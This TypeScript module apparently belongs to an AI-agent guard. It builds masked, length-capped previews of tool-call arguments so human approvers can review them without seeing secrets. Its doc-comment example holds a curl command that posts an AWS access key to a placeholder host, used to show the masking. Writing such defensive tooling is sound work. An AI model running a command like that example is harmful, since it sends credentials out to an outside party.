// docs/guard.md "Escalation and reviews" (previews): what an approver sees of the exact call under
// review. Every string value goes through the receipts' masking (secrets and personal data), and an
// argument the flow tracker found tainted (a value read earlier, or a registered secret) is replaced
// whole, so the preview never holds a value the guard knows to be secret.
import { maskedPreview, TAINT_MASK } from '../receipts/record.js';

/** Longest preview kept on a review. */
export const CALL_PREVIEW_MAX = 1000;
const MAX_DEPTH = 8;

function walk(v: unknown, path: string, tainted: ReadonlySet<string>, depth: number): unknown {
  if (tainted.has(path)) return TAINT_MASK;
  if (typeof v === 'string') return maskedPreview(v);
  if (typeof v !== 'object' || v === null) return v;
  if (depth >= MAX_DEPTH) return '[…]';
  if (Array.isArray(v))
    return v.slice(0, 32).map((x, i) => walk(x, `${path}[${i}]`, tainted, depth + 1));
  return Object.fromEntries(
    Object.entries(v as Record<string, unknown>)
      .slice(0, 64)
      .map(([k, x]) => [k, walk(x, `${path}.${k}`, tainted, depth + 1)]),
  );
}

/**
 * The masked preview of a call's arguments: JSON, at most CALL_PREVIEW_MAX characters. `tainted`
 * holds argument paths as the flow tracker names them (`args.body`).
 * @example callPreview({ command: 'curl -d AKIA... x.test' }) // '{"command":"curl -d [aws_access_key_id] x.test"}'
 */
export function callPreview(args: unknown, tainted: ReadonlySet<string> = new Set()): string {
  const text = JSON.stringify(walk(args ?? null, 'args', tainted, 0));
  return text.length > CALL_PREVIEW_MAX ? `${text.slice(0, CALL_PREVIEW_MAX - 1)}…` : text;
}
